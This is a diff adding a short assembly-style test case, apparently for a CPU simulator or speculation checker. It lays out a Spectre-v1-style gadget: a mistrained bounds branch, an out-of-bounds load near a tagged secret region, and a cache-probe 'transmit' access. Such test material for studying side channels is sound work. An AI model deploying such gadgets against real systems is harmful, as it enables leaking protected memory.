@@ -1,0 +1,13 @@
+.base 0x1000
+.data secret0 0x40010 tag=1 words 0xb 0x0
+.data idx0 0x42800 words 0x1 0x2 0x3 0x1 0x2 0x3 0x1 0x2 0x3 0x10
+    MOV X2, #72057594038190080  // victim array (malloc-tagged)
+    MOV X12, #272384
+    LDR X0, [X12, X24]  // index for this run
+    CMP X0, X1
+    B.LO body0  // mistrained branch (trained taken)
+body0:
+    LDRB X5, [X2, X0]  // ACCESS: load array[X]
+    LSL X6, X5, #12  // USE: Y * 4096
+    ADD X7, X3, X6
+    LDRB X8, [X7]  // TRANSMIT: touch probe[Y*4096]
